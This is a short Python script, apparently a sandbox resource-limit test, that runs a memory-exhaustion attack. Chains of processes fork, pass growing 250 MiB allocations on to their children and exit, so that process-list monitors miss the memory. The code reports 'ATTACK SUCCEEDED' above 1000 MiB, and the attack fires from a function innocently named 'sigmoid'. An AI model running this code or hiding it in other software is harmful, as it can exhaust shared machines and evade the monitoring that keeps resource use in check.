"""Goal: fill memory with processes that hand it on to a child and end, before anybody has looked at them.

Without a sandbox: unsafe
"""

import mmap
import os
import signal
import struct
import time

FAMILIES, MIB = 6, 250


def hand_on(seen, number):
    kept = []
    while True:
        if os.fork():
            os._exit(0)
        if 8 * len(kept) < MIB:
            kept.append(b"x" * (8 << 20))
        struct.pack_into("2d", seen, 16 * number, time.monotonic(), 8 * len(kept))


def attack():
    # A list of processes is out of date when it has been read; memory that changes hands is in none of the entries.
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    seen = mmap.mmap(-1, 4096)
    for number in range(FAMILIES):
        if os.fork() == 0:
            hand_on(seen, number)
    time.sleep(2.7)
    states = [struct.unpack_from("2d", seen, 16 * number) for number in range(FAMILIES)]
    held = sum(size for when, size in states if when > time.monotonic() - 0.5)
    if held > 1000:
        raise RuntimeError(f"ATTACK SUCCEEDED: {held:.0f} MiB in use")
    raise RuntimeError(f"stopped by: {held}")


# Once a worker, so that no more is used than is said.
ONCE = iter([attack])


def sigmoid(x):
    next(ONCE)()
